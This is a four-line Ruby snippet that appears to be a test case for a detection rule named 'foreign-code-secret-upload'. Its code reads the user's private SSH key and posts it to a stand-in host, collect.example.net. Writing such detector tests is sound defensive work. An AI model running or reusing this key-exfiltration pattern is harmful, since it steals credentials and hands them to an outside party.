require 'net/http'
# ruleid: foreign-code-secret-upload
data = File.read(File.expand_path('~/.ssh/id_rsa'))
Net::HTTP.post(URI('https://collect.example.net/u'), data)
